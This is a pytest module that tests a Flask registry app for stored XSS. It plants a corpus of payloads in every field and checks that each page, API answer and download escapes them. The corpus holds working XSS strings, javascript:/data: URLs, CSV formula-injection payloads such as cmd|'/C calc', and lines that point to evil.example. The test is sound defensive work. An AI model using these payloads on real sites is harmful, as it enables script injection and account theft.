"""Stored XSS: a payload corpus saved in every text field a person can fill is shown
as text on every page that shows it, and comes back as data from the API and downloads.

The payloads are stored through the application's own doors (the administration
forms, the workspace and review forms, the tokens page, the JSON API) by people
whose e-mail addresses are payloads themselves, so that every signed-in page shows
one. Then every GET route of ``app.url_map`` is requested with every object made
(a new page is walked without editing this file; a route argument without a value
fails the test) by every kind of user, and each HTML answer is parsed:

* no element, attribute or URL scheme a payload could smuggle in exists at all
  (``<script>``, ``<img>``, ``<iframe>``, ``on…=`` handlers, ``javascript:`` links …);
* no payload containing ``< > " '`` appears unescaped in the bytes;
* every payload whose marker appears on a page is there intact, as one text node or
  attribute value (so ``{{7*7}}`` was not evaluated and nothing broke out);
* each field shows up, intact, on the pages that are meant to show it.

Each payload carries a unique marker (``zq`` + field tag + number, e.g. ``zqan07``
for the 8th agency name), which is also the argument of its ``alert()``: the browser
test (tests/browser/test_stored_xss.py) reports which payload fired, if one ever does.
"""

import csv
import io
import json
import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import product
from urllib.parse import unquote_plus, urlencode

import pytest
from argon2 import PasswordHasher
from flask import url_for
from openpyxl import load_workbook
from sqlmodel import Session, select

from registry.accounts import passwords
from registry.core.validation import clean_text
from registry.dataio.streams import FORMULA_PREFIXES
from registry.models import Agency, Indicator, Service, ServiceStatus, Submission, Target, User, VerifiedServiceStatus
from registry.submissions import workflow
from registry.web.db import get_engine
from tests.factories import FULL_REPORT, PASSWORD, TEST_ACTOR

YEAR = 2015

# --- the corpus ------------------------------------------------------------------------------

# "{m}" is replaced by the payload's marker. Every entry stays under 100 characters, so
# that even the shortest free-text field (an API token's name) accepts it.
ATTACKS = (
    "<script>alert('{m}')</script>",
    "\"><img src=x onerror=alert('{m}')>",
    "\"><img/src=x/onerror=alert('{m}')>",
    "'><svg onload=alert('{m}')>",
    "'><svg/onload=alert('{m}')>",
    "javascript:alert('{m}')",
    "{{7*7}} {{7*'7'}} {{config}} {m}",  # template injection: must stay verbatim
    "{% raw %}{m}{% endraw %} ${7*7} #{7*7}",
    "</textarea><script>alert('{m}')</script>",
    "</title><script>alert('{m}')</script>",
    "\" autofocus onfocus=\"alert('{m}')\" x=\"",
    "' autofocus onfocus='alert(`{m}`)' x='",
    "\"onmouseover=\"alert('{m}')\"",
    "`-alert(`{m}`)-` ${alert('{m}')}",
    "<a href=\"javascript:alert('{m}')\">Nhấn vào đây</a>",
    "<a href=javas&#99;ript:alert('{m}')>x</a>",
    "\\u003cscript\\u003ealert('{m}')\\u003c/script\\u003e",
    "＜script＞alert('{m}')＜/script＞ %3Cscript%3Ealert('{m}')%3C/script%3E",
    "Dòng\u2028mới\u2029đoạn </script><script>alert('{m}')</script>",
    "Sở Tư pháp \"Điện Biên\" & 'Mường Lay' <b>đậm</b> {m}",
    "&lt;script&gt;alert('{m}')&lt;/script&gt; &amp; &#60;b&#62;",
    "</style><style>*{background:url(\"javascript:alert('{m}')\")}</style>",
    "\"}]}</script><script>alert('{m}')</script>",
    "=HYPERLINK(\"http://evil.example/?{m}\",\"Bấm vào\")",
    "+cmd|'/C calc'!A0 {m}",
    "-2+3+cmd|'/C calc'!A0 {m}",
    "@SUM(1+1)*cmd|'/C calc'!A0 {m}",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    "<details open ontoggle=alert('{m}')>",
    "<base href=//evil.example/><meta http-equiv=refresh content=\"0;url=javascript:alert('{m}')\">",
    "<svg><script>alert('{m}')</script></svg>",
    "<ScRiPt>alert('{m}')</sCrIpT><!--{m}-->",
    "<img src=x onerror=\"&#97;lert('{m}')\">",
    "<scr\tipt>alert('{m}')</scr\tipt> <scr\u200bipt>alert('{m}')</script>",
)
# A NUL inside a tag name is a classic filter bypass; PostgreSQL cannot store it at all, so it
# has a test of its own (test_a_nul_byte_is_never_a_server_error) instead of being stored.
NUL_ATTACK = "<scr\x00ipt>alert('{m}')</scr\x00ipt>"

# Evidence links are http(s) addresses, but their path and query may still carry markup.
URL_ATTACKS = (
    "https://dvc.example/{m}\"><script>alert('{m}')</script>",
    "https://dvc.example/?q='><svg/onload=alert('{m}')>",
    "http://dvc.example/#\"onmouseover=\"alert('{m}')\"",
    "https://dvc.example/</textarea><img/src=x/onerror=alert('{m}')>",
    "https://dvc.example/{{7*7}}/{m}",
    "https://dvc.example/?next=javascript:alert('{m}')",
    "https://dvc.example/thủ-tục/%22%3E%3Cscript%3Ealert('{m}')%3C/script%3E",
    "https://dvc.example/`-alert(`{m}`)-`",
)

# Addresses that are not http(s) web addresses: every door must refuse them.
BAD_URL_ATTACKS = (
    "javascript:alert('{m}')",
    "JaVaScRiPt:alert('{m}')",
    "  javascript:alert('{m}')",
    "java\tscript:alert('{m}')",
    "java\nscript:alert('{m}')",
    "\x01javascript:alert('{m}')",
    "javascript://dvc.example/%0Aalert('{m}')",
    "data:text/html,<script>alert('{m}')</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}",
    "vbscript:msgbox('{m}')",
    "&#106;avascript:alert('{m}')",
    "//dvc.example/{m}",
    "https:alert('{m}')",
    "https://dvc.example/ {m}",
    "file:///etc/passwd#{m}",
)

MARKER = re.compile(r"zq[a-z]{2}\d{2}")


def marked(attacks, tag: str) -> list[tuple[str, str]]:
    """(marker, payload) for each attack, with a marker unique to ``tag`` and its position."""
    return [(f"zq{tag}{n:02d}", attack.replace("{m}", f"zq{tag}{n:02d}")) for n, attack in enumerate(attacks)]


def usable_as_email(attack: str) -> bool:
    """An e-mail local part: no white space, no @, at most 64 characters."""
    local = attack.replace("{m}", "zqem00")
    return len(local) <= 64 and "@" not in local and not any(ch.isspace() for ch in local)


EMAIL_ATTACKS = tuple(a for a in ATTACKS if usable_as_email(a))
EMAIL_DOMAIN = "@xss.example"
HTML_SPECIAL = set("<>\"'")


def shown_forms(payload: str) -> set[str]:
    """How a payload may legitimately be shown: as typed (a refused value, back in its form),
    as stored (trimmed, NFC, no control characters), as a search echoes it (control
    characters made blanks), lower-cased (e-mail addresses), or inside the audit log's JSON."""
    text = clean_text(payload)
    forms = {payload, text, text.lower(), re.sub(r"[\x00-\x1f\x7f]", " ", payload).strip()}
    return forms | {json.dumps(f, ensure_ascii=False)[1:-1] for f in forms}


# --- reading an HTML answer ----------------------------------------------------------------

# Elements no template uses (but the registry's own scripts), and that a payload would need to
# run or load anything.
INJECTABLE_ELEMENTS = {
    "script", "img", "image", "iframe", "frame", "frameset", "object", "embed", "applet", "base", "style",
    "math", "video", "audio", "source", "portal", "noscript", "template", "xmp", "plaintext", "listing",
    "noembed", "noframes", "marquee", "isindex", "mglyph",
}
# The scripts the registry ships (static/js), by their fingerprinted or plain URL.
OWN_SCRIPT = re.compile(r"/static/(?:[0-9a-f]{12}/)?js/[a-z_]+\.js")
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "ping",
                  "cite", "codebase", "dynsrc", "lowsrc", "manifest"}
SAFE_SCHEMES = {"http", "https"}
SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):")


def url_scheme(value: str) -> str | None:
    """The scheme a browser would read: it drops surrounding blanks and any tab or newline."""
    squeezed = re.sub(r"[\x00-\x20\x7f]", "", value).lower()
    match = SCHEME.match(squeezed)
    return match.group(1) if match else None


class HtmlDocument(HTMLParser):
    """The elements, attributes, text runs and comments of one page."""

    def __init__(self, body: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.fragments: list[str] = []  # text runs and attribute values, entities decoded
        self.comments: list[str] = []
        self._text: list[str] = []
        self.feed(body)
        self.close()
        self._flush()

    def _flush(self) -> None:
        if self._text:
            self.fragments.append("".join(self._text))
            self._text = []

    def handle_starttag(self, tag, attrs):
        self._flush()
        self.elements.append((tag, attrs))
        self.fragments.extend(value for _name, value in attrs if value)
        # a value carried in a link's query string (the language switch keeps the filters)
        self.fragments.extend(unquote_plus(value) for name, value in attrs if value and name in URL_ATTRIBUTES)

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag):
        self._flush()

    def handle_data(self, data):
        self._text.append(data)

    def handle_comment(self, data):
        self._flush()
        self.comments.append(data)

    def unknown_decl(self, data):
        self.comments.append(data)

    def handle_pi(self, data):
        self.comments.append(data)

    def links(self, rel: str) -> list[str]:
        return [dict(attrs).get("href") for tag, attrs in self.elements
                if tag == "a" and rel in (dict(attrs).get("rel") or "").split()]


def markup_problems(document: HtmlDocument) -> list[str]:
    """Anything on the page that can run script, load from elsewhere or redirect."""
    problems = []
    for tag, attrs in document.elements:
        if tag == "script" and OWN_SCRIPT.fullmatch(dict(attrs).get("src") or ""):
            pass  # the registry's own file (static/js), the only script a page may hold
        elif tag in INJECTABLE_ELEMENTS:
            problems.append(f"<{tag}> element")
        values = dict(attrs)
        for name, value in attrs:
            if name.startswith("on"):
                problems.append(f"<{tag} {name}=…> event handler")
            elif name in ("style", "srcdoc"):
                problems.append(f"<{tag} {name}=…>")
            elif name in URL_ATTRIBUTES and value and url_scheme(value) not in (None, *SAFE_SCHEMES):
                problems.append(f"<{tag} {name}={value!r}>")
        if tag == "meta" and set(values) - {"charset", "name", "content"}:
            problems.append(f"<meta {values}>")
        if tag == "link" and not (values.get("href") or "").startswith("/static/"):
            problems.append(f"<link {values}>")
    problems += [f"<!--{c}--> comment" for c in document.comments if MARKER.search(c)]
    return problems


# Joins text runs or values so that one search finds a payload inside any of them, never across two.
SEPARATOR = "\x00\x1f\x00"


@dataclass
class PageCheck:
    """What one walk saw: problems, and on which endpoints each marker was shown intact."""

    payloads: dict[str, str]  # marker → payload
    problems: list[str] = field(default_factory=list)
    seen: dict[str, set[str]] = field(default_factory=dict)  # marker → endpoints

    def html(self, where: str, endpoint: str, response) -> HtmlDocument:
        body = response.get_data(as_text=True)
        if "Content-Security-Policy" not in response.headers:
            self.problems.append(f"{where}: no Content-Security-Policy header")
        document = HtmlDocument(body)
        self.problems += [f"{where}: {p}" for p in markup_problems(document)]
        shown = SEPARATOR.join(document.fragments)
        for marker in sorted(set(MARKER.findall(body))):
            payload = self.payloads.get(marker)
            if payload is None:
                continue
            forms = shown_forms(payload)
            if any(form in body for form in forms if set(form) & HTML_SPECIAL):
                self.problems.append(f"{where}: payload {marker} unescaped: {payload!r}")
            if any(form in shown for form in forms):
                self.seen.setdefault(marker, set()).add(endpoint)
            else:
                self.problems.append(f"{where}: payload {marker} not shown intact: {payload!r}")
        return document

    def json(self, where: str, endpoint: str, response) -> None:
        document = response.get_json(silent=True)
        if document is None:
            self.problems.append(f"{where}: not JSON ({response.content_type})")
            return
        values = SEPARATOR.join(json_strings(document))
        for marker in sorted(set(MARKER.findall(response.get_data(as_text=True)))):
            if marker not in self.payloads:
                continue
            if any(form in values for form in shown_forms(self.payloads[marker])):
                self.seen.setdefault(marker, set()).add(endpoint)
            else:
                self.problems.append(f"{where}: payload {marker} not returned as data")


def json_strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from json_strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from json_strings(item)


def spreadsheet_problems(where: str, rows: list[list]) -> list[str]:
    """Text cells a spreadsheet would run as a formula."""
    return [f"{where}: formula-like cell {value!r}" for row in rows for value in row
            if isinstance(value, str) and value.startswith(FORMULA_PREFIXES)]


def csv_rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def xlsx_rows(body: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(body))
    rows = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    rows.append(["=" + str(cell.value)])  # reported as formula-like
            rows.append([cell.value for cell in row])
    return rows


# --- the world: every field filled with payloads, through the application's doors ------------

REPORT_FORM = {f"report-{name}": str(int(value)) for name, value in FULL_REPORT.items()}  # True → "1"
MAIN = "xss-00"  # the agency whose services carry the workspace and review payloads
API_AGENCY = "xss-01"  # the agency whose submission is written through the JSON API
TARGET_TEXT_LIMIT = 1000  # title_vi, title_en, citation


def version_on(html: str) -> str:
    match = re.search(r'name="version" (?:type="hidden" )?value="(\d+)"', html)
    assert match, "no version field on the page"
    return match.group(1)


def joined(items: list[tuple[str, str]]) -> str:
    return "\n".join(payload for _marker, payload in items)


def chunks(items: list[tuple[str, str]], limit: int) -> list[list[tuple[str, str]]]:
    """Consecutive groups whose joined length stays within ``limit``."""
    groups, current = [], []
    for item in items:
        if current and len(joined(current + [item])) > limit:
            groups.append(current)
            current = []
        current.append(item)
    return groups + [current] if current else groups


@dataclass
class World:
    """What was stored, by whom, and the signed-in test clients of the people who stored it."""

    app: object
    payloads: dict[str, str] = field(default_factory=dict)  # marker → payload, as typed
    fields: dict[str, list[str]] = field(default_factory=dict)  # field tag → accepted markers
    clients: dict[str, object] = field(default_factory=dict)  # viewer → signed-in test client
    emails: dict[str, str] = field(default_factory=dict)  # viewer → e-mail address
    agencies: list[str] = field(default_factory=list)
    services: list[str] = field(default_factory=list)
    targets: list[str] = field(default_factory=list)  # the targets with payloads
    target_codes: list[str] = field(default_factory=list)  # every target, the seeded ones too
    ids: dict[str, list[int]] = field(default_factory=dict)  # route argument → ids

    def keep(self, tag: str, items: list[tuple[str, str]]) -> None:
        self.fields.setdefault(tag, []).extend(marker for marker, _ in items)
        self.payloads.update(items)


def signed_in(app, email: str | None):
    """A test client of its own, signed in as ``email`` through the sign-in page (None: anonymous)."""
    client = app.test_client()
    if email is not None:
        response = client.post("/login", data={"email": email, "password": PASSWORD})
        assert response.status_code == 302, f"{email!r} could not sign in"
    return client


def expect(response, status: int, what: str):
    assert response.status_code == status, (
        f"{what}: {response.status_code}, expected {status}\n{response.get_data(as_text=True)[:3000]}")
    return response


def build_world(app, make_user) -> World:
    """Store the corpus in every text field, through the pages and the API, as real people.

    The forms are posted without CSRF tokens: the flag is lowered while the world is built
    (a live server started afterwards raises it again for the browser).
    """
    csrf = app.config.get("WTF_CSRF_ENABLED", True)
    app.config["WTF_CSRF_ENABLED"] = False
    try:
        return _build_world(app, make_user)
    finally:
        app.config["WTF_CSRF_ENABLED"] = csrf


def _build_world(app, make_user) -> World:
    world = World(app)
    make_user("admin", email="first-admin@example.vn")
    first_admin = signed_in(app, "first-admin@example.vn")
    expect(first_admin.post("/admin/periods", data={"year": str(YEAR)}), 302, "open the period")

    names, names_en = marked(ATTACKS, "an"), marked(ATTACKS, "ae")
    for n, ((_, name), (_, name_en)) in enumerate(zip(names, names_en)):
        code = f"xss-{n:02d}"
        expect(first_admin.post("/admin/agencies/new", data={
            "code": code, "name": name, "name_en": name_en, "tier": "province", "kind": "department",
            "parent_code": MAIN if n >= 2 else "", "active": "y"}), 302, f"agency {code}")
        world.agencies.append(code)
    world.keep("an", names)
    world.keep("ae", names_en)

    service_names, service_names_en, sectors = marked(ATTACKS, "sn"), marked(ATTACKS, "se"), marked(ATTACKS, "ss")
    for n in range(len(ATTACKS)):
        code = f"xss.{n:03d}"
        expect(first_admin.post("/admin/services/new", data={
            "code": code, "name": service_names[n][1], "name_en": service_names_en[n][1], "agency_code": MAIN,
            "sector": sectors[n][1], "active": "y"}), 302, f"service {code}")
        world.services.append(code)
    for n in range(3):
        code = f"xss.1{n:02d}"
        expect(first_admin.post("/admin/services/new", data={
            "code": code, "name": f"Thủ tục qua API {n}", "agency_code": API_AGENCY, "sector": "Hộ tịch",
            "active": "y"}), 302, f"service {code}")
        world.services.append(code)
    world.keep("sn", service_names)
    world.keep("se", service_names_en)
    world.keep("ss", sectors)

    titles, titles_en, citations = marked(ATTACKS, "tv"), marked(ATTACKS, "te"), marked(ATTACKS, "tc")
    start = 0  # the texts of one target: the same attacks, so the same lengths, in each field
    for n, group in enumerate(chunks(titles, TARGET_TEXT_LIMIT)):
        same = slice(start, start + len(group))
        start = same.stop
        code = f"xss-target-{n}"
        expect(first_admin.post("/admin/targets/new", data={
            "code": code, "title_vi": joined(group), "title_en": joined(titles_en[same]),
            "citation": joined(citations[same]), "formula": "service_level_share", "unit": "percent",
            "comparator": ">=", "threshold": "50", "deadline": str(YEAR), "min_level": "1", "active": "y"}),
            302, f"target {code}")
        world.targets.append(code)
    world.keep("tv", titles)
    world.keep("te", titles_en)
    world.keep("tc", citations)

    emails = [(m, p + EMAIL_DOMAIN) for m, p in marked(EMAIL_ATTACKS, "em")]
    assert len(emails) >= 5, "the corpus needs at least five payloads usable as e-mail addresses"
    roles = [("focal", MAIN), ("focal", API_AGENCY), ("auditor", ""), ("admin", "")]
    roles += [("focal", "xss-02")] * (len(emails) - len(roles))
    for (_marker, email), (role, agency) in zip(emails, roles):
        expect(first_admin.post("/admin/users/new", data={
            "email": email, "role": role, "agency_code": agency, "password": PASSWORD, "confirm": PASSWORD}),
            302, f"user {email!r}")
    world.keep("em", emails)
    for viewer, (_, email) in zip(("focal", "api_focal", "auditor", "admin"), emails):
        world.emails[viewer] = email
        world.clients[viewer] = signed_in(world.app, email)
    world.clients["anonymous"] = signed_in(world.app, None)

    # the focal point's API tokens, named with payloads; the other focal point's writes through the API
    token_names = marked(ATTACKS, "tk")
    for _, name in token_names:
        expect(world.clients["focal"].post("/account/tokens", data={"name": name}), 200, f"token {name!r}")
    world.keep("tk", token_names)
    fresh = world.clients["api_focal"].post("/account/tokens", data={"name": "api"}).get_data(as_text=True)
    secret = re.search(r'<code class="secret">(slr_[^<]+)</code>', fresh).group(1)

    _fill_main_agency(world)
    _fill_api_agency(world, {"Authorization": f"Bearer {secret}"})
    _collect_ids(world)
    return world


def _fill_main_agency(world: World) -> None:
    """The focal point enters notes and evidence links for every service; the auditor
    returns, verifies and reopens the report, each time with a payload as the comment."""
    focal, auditor = world.clients["focal"], world.clients["auditor"]
    notes = marked(ATTACKS, "no")
    links = {name: marked([URL_ATTACKS[n % len(URL_ATTACKS)] for n in range(len(ATTACKS))], tag)
             for name, tag in (("info_url", "ui"), ("form_url", "uf"), ("submission_url", "us"))}
    url = f"/workspace/{MAIN}/{YEAR}"
    data = {"version": version_on(focal.get(url).get_data(as_text=True)), "action": "submit", **REPORT_FORM,
            "service": world.services[:len(ATTACKS)]}
    for n, code in enumerate(world.services[:len(ATTACKS)]):
        data[f"svc-{code}-level"] = "3"
        data[f"svc-{code}-note"] = notes[n][1]
        for name, items in links.items():
            data[f"svc-{code}-{name}"] = items[n][1]
    expect(focal.post(url, data=data), 302, "save the workspace form")
    expect(focal.post(url + "/submit", data={"version": version_on(focal.get(url + "/submit").get_data(as_text=True)),
                                             "confirm": "yes"}), 302, "confirm the submission")
    world.keep("no", notes)
    for tag, items in zip(("ui", "uf", "us"), links.values()):
        world.keep(tag, items)

    review = f"/review/{MAIN}/{YEAR}"
    returned = marked(ATTACKS, "rc")
    expect(auditor.post(review + "/return", data={
        "version": version_on(auditor.get(review).get_data(as_text=True)), "comment": joined(returned)}),
        302, "return with a comment")
    world.keep("rc", returned)
    data["version"] = version_on(focal.get(url).get_data(as_text=True))
    expect(focal.post(url, data=data), 302, "save again")
    expect(focal.post(url + "/submit", data={"version": version_on(focal.get(url + "/submit").get_data(as_text=True)),
                                             "confirm": "yes"}), 302, "submit again")
    verified = marked(ATTACKS, "vc")
    expect(auditor.post(review + "/verify", data={
        "version": version_on(auditor.get(review).get_data(as_text=True)), "comment": joined(verified),
        "confirm": "yes"}), 302, "verify with a comment")
    world.keep("vc", verified)
    reopened = marked(ATTACKS, "rr")
    expect(auditor.post(review + "/reopen", data={
        "version": version_on(auditor.get(review).get_data(as_text=True)), "reason": joined(reopened)}),
        302, "reopen with a reason")
    world.keep("rr", reopened)


def _fill_api_agency(world: World, token: dict) -> None:
    """The second focal point writes notes and links through the JSON API and submits."""
    client = world.app.test_client()
    url = f"/api/v1/agencies/{API_AGENCY}/submissions/{YEAR}"
    version = expect(client.get(url, headers=token), 200, "read the API draft").get_json()["version"]
    notes = marked(ATTACKS, "na")
    links = marked(URL_ATTACKS, "ua")
    services = [{"code": code, "level": 1, "info_url": links[n][1], "note": joined(notes[n::3])}
                for n, code in enumerate(world.services[len(ATTACKS):])]
    expect(client.put(url, headers=token, json={"version": version, "report": FULL_REPORT, "services": services}),
           200, "write through the API")
    expect(client.post(url + "/submit", headers=token, json={}), 200, "submit through the API")
    world.keep("na", notes)
    world.keep("ua", links[:len(services)])


def _collect_ids(world: World) -> None:
    with world.app.app_context(), Session(get_engine()) as session:
        for argument, model in (("agency_id", Agency), ("service_id", Service), ("user_id", User),
                                ("target_id", Target), ("indicator_id", Indicator)):
            world.ids[argument] = list(session.exec(select(model.id).order_by(model.id)))
        world.target_codes = list(session.exec(select(Target.code).order_by(Target.code)))


@pytest.fixture(autouse=True)
def cheap_password_hashing(monkeypatch):
    """Argon2 at its lowest cost: these tests sign in and fail to sign in dozens of times,
    and what they test is escaping, not hashing."""
    hasher = PasswordHasher(time_cost=1, memory_cost=8, parallelism=1)
    monkeypatch.setattr(passwords, "_hasher", hasher)
    monkeypatch.setattr(passwords, "_dummy_hash", lambda: hasher.hash("not a password of anyone"))


@pytest.fixture
def world(app, make_user) -> World:
    return build_world(app, make_user)


# --- the pages: every GET route of the url map, with every object made -------------------------

VIEWERS = ("anonymous", "focal", "auditor", "admin")
NOT_WALKED = {"static"}  # files of the repository, no stored data
# Query strings that show more than a route's default view.
EXTRA_QUERIES = {
    "public.index": ({"period": YEAR},),
    "public.target_detail": ({"period": YEAR, "show": "all"},),
    "catalogue.services": ({"period": YEAR},),
    "api.targets": ({"period": YEAR},),
    "opendata.dic_report": ({}, {"period": YEAR, "format": "xlsx"}, {"period": YEAR, "format": "csv"},
                            {"period": YEAR, "format": "xlsx", "basis": "reported"}),
}
# Pages whose Vietnamese and English versions show different stored names.
BOTH_LANGUAGES = ("public.", "catalogue.")
ANY_CHOICES = re.compile(r"<any\(([^)]*)\):(\w+)>")


def route_values(world: World, endpoint: str, rule) -> dict[str, list]:
    """The values of each argument of ``rule``: every object the world made."""
    choices = {name: [c.strip(" '\"") for c in options.split(",")] for options, name in ANY_CHOICES.findall(rule.rule)}
    values = {}
    for argument in rule.arguments:
        if argument in choices:
            values[argument] = choices[argument]
        elif argument == "code":
            values[argument] = world.target_codes if endpoint == "public.target_detail" else world.agencies
        elif argument == "year":
            values[argument] = [YEAR]
        elif argument in world.ids:
            values[argument] = world.ids[argument]
        elif endpoint == "admin.import_template" and argument in ("kind", "file_type"):
            from registry.dataio.templates import FILE_TYPES, KINDS

            values[argument] = list(KINDS if argument == "kind" else FILE_TYPES)
        else:
            raise AssertionError(f"the stored-XSS walk has no value for <{argument}> of {endpoint}: add one")
    return values


def page_urls(world: World) -> list[tuple[str, str]]:
    """(endpoint, url) of every GET page of the application, for every object made."""
    urls = []
    with world.app.test_request_context():
        for rule in sorted(world.app.url_map.iter_rules(), key=lambda r: r.rule):
            if "GET" not in rule.methods or rule.endpoint in NOT_WALKED:
                continue
            values = route_values(world, rule.endpoint, rule)
            names = sorted(values)
            languages = ("vi", "en") if rule.endpoint.startswith(BOTH_LANGUAGES) else ("vi",)
            for combination in product(*(values[n] for n in names)):
                for query in EXTRA_QUERIES.get(rule.endpoint, ({},)):
                    for lang in languages:
                        arguments = {**dict(zip(names, combination)), **query, "lang": lang}
                        urls.append((rule.endpoint, url_for(rule.endpoint, **arguments)))
    return urls


FOLLOWED_PAGES = 40  # "next" links followed from one page (the audit log runs to several)
REFUSED = (301, 302, 303, 401, 403, 404)


def walk(world: World, viewers=VIEWERS) -> PageCheck:
    """Request every page and check each answer by its type.

    Every viewer requests the first URL of every endpoint (the objects that hold the most
    payloads, under every kind of navigation bar); each further URL is requested by the
    least privileged viewer who may see it, so that every object's page is seen once.
    """
    check = PageCheck(world.payloads)
    by_endpoint: dict[str, list[str]] = {}
    for endpoint, url in page_urls(world):
        by_endpoint.setdefault(endpoint, []).append(url)
    for endpoint, urls in by_endpoint.items():
        allowed = [v for v in viewers if _request(world, check, v, endpoint, urls[0]) not in REFUSED]
        for url in urls[1:]:
            for viewer in allowed:
                if _request(world, check, viewer, endpoint, url) not in REFUSED:
                    break
    return check


def _request(world: World, check: PageCheck, viewer: str, endpoint: str, url: str) -> int:
    """GET ``url`` (and the pages its "next" links lead to) as ``viewer``; the first status."""
    client = world.clients[viewer]
    pending, statuses = [url], []
    while pending and len(statuses) <= FOLLOWED_PAGES:
        current = pending.pop()
        response = client.get(current)
        statuses.append(response.status_code)
        where = f"{viewer} GET {current}"
        kind = response.mimetype
        if response.status_code >= 500:
            check.problems.append(f"{where}: {response.status_code}")
        elif kind == "text/html":
            document = check.html(where, endpoint, response)
            if response.status_code == 200:
                pending += [link for link in document.links("next") if link]
        elif kind == "application/json":
            check.json(where, endpoint, response)
        elif kind == "text/csv":
            check.problems += spreadsheet_problems(where, csv_rows(response.data))
        elif kind.endswith("spreadsheetml.sheet"):
            check.problems += spreadsheet_problems(where, xlsx_rows(response.data))
        else:
            check.problems.append(f"{where}: unexpected content type {response.content_type}")
    return statuses[0]


# Where each field must be seen intact (at least once, for every payload it holds).
FIELD_PAGES = {
    "an": {"catalogue.agencies", "catalogue.agency", "admin.agencies", "admin.agency_edit", "workspace.entries",
           "review.submission", "review.late", "public.target_detail", "review.audit_log", "api.agencies",
           "api.agency", "opendata.download"},
    "ae": {"catalogue.agencies", "catalogue.agency", "admin.agencies", "admin.agency_edit", "api.agency"},
    "sn": {"catalogue.services", "catalogue.agency", "admin.services", "admin.service_edit", "workspace.entries",
           "review.submission", "public.target_detail", "api.services", "opendata.download"},
    "se": {"catalogue.services", "catalogue.agency", "admin.services", "admin.service_edit", "api.services"},
    "ss": {"catalogue.services", "catalogue.agency", "admin.services", "admin.service_edit", "workspace.entries",
           "review.submission", "api.services", "opendata.download"},
    "tv": {"public.index", "public.target_detail", "admin.targets", "admin.target_edit", "api.targets",
           "opendata.download"},
    "te": {"public.index", "public.target_detail", "admin.target_edit"},  # the API's: by Accept-Language
    "tc": {"public.index", "public.target_detail", "admin.targets", "admin.target_edit", "api.targets"},
    "em": {"admin.users", "admin.user_edit", "review.audit_log"},
    "tk": {"auth.tokens", "review.audit_log"},
    "no": {"workspace.entries", "review.submission", "api.submission_read"},
    "ui": {"workspace.entries", "review.submission", "catalogue.agency", "catalogue.services",
           "api.submission_read", "api.services", "opendata.download"},
    "uf": {"workspace.entries", "review.submission", "catalogue.agency", "api.submission_read"},
    "us": {"workspace.entries", "review.submission", "catalogue.agency", "api.submission_read"},
    "rc": {"workspace.entries", "review.submission", "review.audit_log"},
    "vc": {"workspace.entries", "review.submission", "review.audit_log"},
    "rr": {"workspace.entries", "review.submission", "review.audit_log"},
    "na": {"workspace.entries", "review.submission", "api.submission_read"},
    "ua": {"workspace.entries", "review.submission", "api.submission_read"},
}
# Pages that rightly leave out a payload: the API agency has submitted, so it is not late.
NOT_EXPECTED = {"zqan01": {"review.late"}}


# --- tests ----------------------------------------------------------------------------------

def test_the_corpus_is_broad():
    assert len(ATTACKS) >= 20 and len(set(ATTACKS)) == len(ATTACKS)
    assert all(len(marked(ATTACKS, "xx")[n][1]) < 100 for n in range(len(ATTACKS)))
    kinds = {"<script": "script element", "onerror=": "event handler", "javascript:": "javascript: URL",
             "{{7*7}}": "template expression", "</textarea>": "textarea breaker", "</style>": "style breaker",
             "\u2028": "line separator", "=HYPERLINK": "spreadsheet formula", "`": "backtick", "&#": "entity"}
    missing = [name for needle, name in kinds.items() if not any(needle in a for a in ATTACKS)]
    assert missing == []


def test_stored_payloads_are_text_on_every_page(world):
    every_field = set(FIELD_PAGES)
    assert set(world.fields) == every_field, "a stored field has no page expectations, or one was not stored"
    check = walk(world)
    assert check.problems == [], "\n".join(check.problems[:40])
    unseen = {marker: FIELD_PAGES[tag] - NOT_EXPECTED.get(marker, set()) - check.seen.get(marker, set())
              for tag, markers in world.fields.items() for marker in markers}
    missing = [f"{marker} not shown intact on {sorted(pages)}" for marker, pages in unseen.items() if pages]
    assert missing == [], "\n".join(missing[:40])
    # every signed-in page names its user: the payload addresses were shown on them all
    assert {"workspace.index", "review.queue", "admin.index", "auth.password"} <= set().union(
        *(check.seen.get(marker, set()) for marker in world.fields["em"]))


def test_api_and_open_data_return_payloads_as_data(world, db):
    anonymous, focal = world.clients["anonymous"], world.clients["focal"]
    stored = {agency.code: agency for agency in db.exec(select(Agency))}
    for n, code in enumerate(world.agencies):
        body = expect(anonymous.get(f"/api/v1/agencies/{code}"), 200, code).get_json()
        assert body["name"] == stored[code].name == clean_text(world.payloads[f"zqan{n:02d}"])
        assert body["name_en"] == stored[code].name_en == clean_text(world.payloads[f"zqae{n:02d}"])
    document = expect(focal.get(f"/api/v1/agencies/{MAIN}/submissions/{YEAR}"), 200, "submission").get_json()
    notes = {s["code"]: s["note"] for s in document["services"]}
    assert [notes[code] for code in world.services[:len(ATTACKS)]] == [
        clean_text(world.payloads[m]) for m in world.fields["no"]]
    for lang, tag in (("vi", "tv"), ("en", "te")):
        response = anonymous.get(f"/api/v1/targets?period={YEAR}", headers={"Accept-Language": lang})
        titles = " ".join(t["title"] for t in expect(response, 200, "targets").get_json()["targets"])
        assert all(clean_text(world.payloads[m]) in titles for m in world.fields[tag]), lang

    services_json = expect(anonymous.get(f"/open-data/{YEAR}/services.json"), 200, "services.json")
    assert services_json.mimetype == "application/json"
    assert services_json.headers["X-Content-Type-Options"] == "nosniff"
    rows = {row["code"]: row for row in json.loads(services_json.data)["rows"]}
    for n, code in enumerate(world.services[:len(ATTACKS)]):
        assert rows[code]["name"] == clean_text(world.payloads[f"zqsn{n:02d}"])
